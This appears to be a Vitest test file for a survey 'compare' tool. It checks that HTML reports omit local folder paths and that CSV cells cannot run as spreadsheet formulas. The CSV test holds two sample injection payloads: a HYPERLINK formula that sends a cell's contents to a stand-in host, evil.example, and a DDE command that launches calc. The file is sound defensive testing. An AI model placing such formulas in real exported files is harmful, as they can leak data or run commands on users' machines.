// What `compare` writes to be shared: the HTML report carries each survey's file name only (never the folder
// it sits in), and the CSV's cells cannot run as spreadsheet formulas.
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { basename, join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { CLEAN_SURVEY, run, tempDir } from './helpers.js';

describe('compare --format html: no local paths', () => {
  it('a survey deep in a private folder is named by its file name only', () => {
    const home = tempDir();
    const secret = join(home, 'Dokument', 'Enkäter hemliga');
    mkdirSync(secret, { recursive: true });
    mkdirSync(join(home, 'work', 'reports'), { recursive: true });
    writeFileSync(join(secret, 'region.survey.md'), CLEAN_SURVEY);
    const cwd = join(home, 'work', 'reports');
    const { code } = run(['compare', '-f', 'html', '-o', 'report.html', '../../Dokument/Enkäter hemliga/region.survey.md'], { cwd });
    expect(code).toBe(0);
    const html = readFileSync(join(cwd, 'report.html'), 'utf8');
    // The report's data names the file (so "reveal" can say which), and nothing of the folders around it.
    expect(html).toContain('"uri":"region.survey.md"');
    for (const leak of ['hemliga', 'Dokument', basename(home), '../', 'file://']) expect(html, leak).not.toContain(leak);
    // Also not in a JSON-escaped spelling of the folder ("Enk\u00e4ter").
    expect(html).not.toMatch(/Enk(ä|\\u00e4)ter/i);
  });
});

describe('compare --format csv: formula injection', () => {
  it('cells starting with = + - @ (and tab, CR) get an apostrophe; numbers stay numbers', () => {
    const dir = tempDir();
    const survey = CLEAN_SURVEY.replace('Den styr.', '=HYPERLINK("http://evil.example/?x="&A1;"klicka")').replace('Den styr inte.', '@SUM(1+1)*cmd|\' /C calc\'!A0');
    writeFileSync(join(dir, 'a.survey.md'), survey.replace('# Enkät 2024', '# -2+3 Enkät'));
    const { code, stdout } = run(['compare', 'a.survey.md', '-f', 'csv'], { cwd: dir });
    expect(code).toBe(0);
    const lines = stdout.replace(/^\uFEFF/, '').trimEnd().split('\r\n');
    expect(lines[0]).toBe('question,question text,part,organisation,status,words,answer');
    expect(lines[1]).toMatch(/^1,Hur styr RUSen\?,Del ett,Region Blekinge,answered,\d+,"'=HYPERLINK\(""http:\/\/evil\.example\/\?x=""&A1;""klicka""\)"$/);
    expect(lines[2]).toMatch(/^1,Hur styr RUSen\?,Del ett,Region Dalarna,answered,\d+,'@SUM\(1\+1\)\*cmd\|' \/C calc'!A0$/);
    // No cell of any line starts a formula.
    for (const line of lines) for (const cell of line.split(',')) expect(cell, line).not.toMatch(/^"?[=+\-@\t\r]/);
  });
});
